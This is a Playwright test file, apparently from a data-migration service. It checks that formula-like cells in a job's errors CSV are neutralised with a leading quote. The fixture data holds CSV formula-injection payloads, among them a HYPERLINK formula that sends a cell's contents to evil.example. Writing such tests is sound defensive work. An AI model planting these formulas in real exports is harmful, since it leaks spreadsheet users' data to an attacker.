import { expect, test } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { clientAs } from './support/api';
import { createPeopleMapping, freshPeople, waitForJob } from './support/mapping-world';

// Issue 17, item 8: a CSV cell starting with =, +, -, @, tab or carriage return is run as a
// formula by spreadsheets. Source rows are written by anyone who could type into the legacy
// CRM, and failed rows come back in the errors CSV: every such cell must be neutralised.
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const hostile = [
  { id: 1, email: HYPERLINK, status: 'A' },
  { id: 2, email: 'two@example.com', status: '+1' },
  { id: 3, email: 'three@example.com', status: '-2+3' },
  { id: 4, email: 'four@example.com', status: '@SUM(1)' },
  { id: 5, email: 'five@example.com', status: '\t=1+1' },
  { id: 6, email: 'six@example.com', status: '\r=1+1' },
  { id: 7, email: 'seven@example.com', status: ' =1+1' },
  // A plain negative number stays a number (the documented exemption).
  { id: -5, email: 'minus@example.com', status: 'P' },
  { id: 8, email: 'eight@example.com', status: 'A' },
];

test('the errors CSV of a job whose failed rows hold formulas carries none of them as formulas', async () => {
  test.setTimeout(120_000);
  const admin = await clientAs('admin');
  const databases = await freshPeople('sec_csv_formulas', hostile);
  const { mappingId } = await createPeopleMapping(admin, `csv formulas ${Date.now()}`, databases);
  const started = await admin.post('/api/jobs', { data: { mappingId } });
  expect(started.status(), await started.text()).toBe(200);
  const jobId: string = (await started.json()).job.id;
  expect(await waitForJob(admin, jobId)).toBe('completed_with_errors');

  const response = await admin.get(`/api/jobs/${jobId}/errors.csv`);
  expect(response.status()).toBe(200);
  expect(response.headers()['content-type']).toContain('text/csv');
  const rows = parse(await response.text(), { relax_column_count: true }) as string[][];
  const [header, ...lines] = rows;
  expect(lines.length).toBe(hostile.length - 1);

  const cells = rows.flat();
  const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));
  expect(formulas, 'cells a spreadsheet would run').toEqual([]);

  // The values are all there, as text: the quote is the only change.
  const column = (name: string) => lines.map((line) => line[header.indexOf(name)]);
  expect(column('email')).toContain(`'${HYPERLINK}`);
  for (const status of ['+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1', ' =1+1']) expect(column('status')).toContain(`'${status}`);
  expect(column('source_key')).toContain('-5');
  await admin.dispose();
});
